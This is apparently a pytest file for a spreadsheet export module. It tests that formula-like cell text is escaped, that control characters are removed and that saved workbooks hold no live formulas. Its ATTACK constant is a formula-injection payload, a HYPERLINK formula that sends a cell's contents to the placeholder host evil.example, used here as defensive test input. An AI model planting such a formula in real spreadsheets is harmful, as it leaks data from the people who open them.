"""The one XLSX writer: formula-looking text stays text, unwritable characters go."""
from __future__ import annotations

import io

import openpyxl
import pytest

from tracker.exports.spreadsheet import safe_text, write_xlsx

ATTACK = '=HYPERLINK("http://evil.example/?d="&B2,"点击")'


@pytest.mark.parametrize("text", [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_leading_text_is_prefixed(text):
    assert safe_text(text).startswith("'")


def test_control_characters_are_removed_and_plain_text_is_untouched():
    assert safe_text("苏州\x1b[31m示例\x00") == "苏州[31m示例"
    assert safe_text("苏州示例 A-1") == "苏州示例 A-1"


def test_a_workbook_holds_no_formula_and_opens_again():
    content = write_xlsx([("表", ["名称", "金额"], [[ATTACK, 12.5], ["ESC\x1bname", -3], ["=1+1", None]])])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert [c.value for c in cells] == ["名称", "金额", "'" + ATTACK, 12.5, "ESCname", -3, "'=1+1", None]
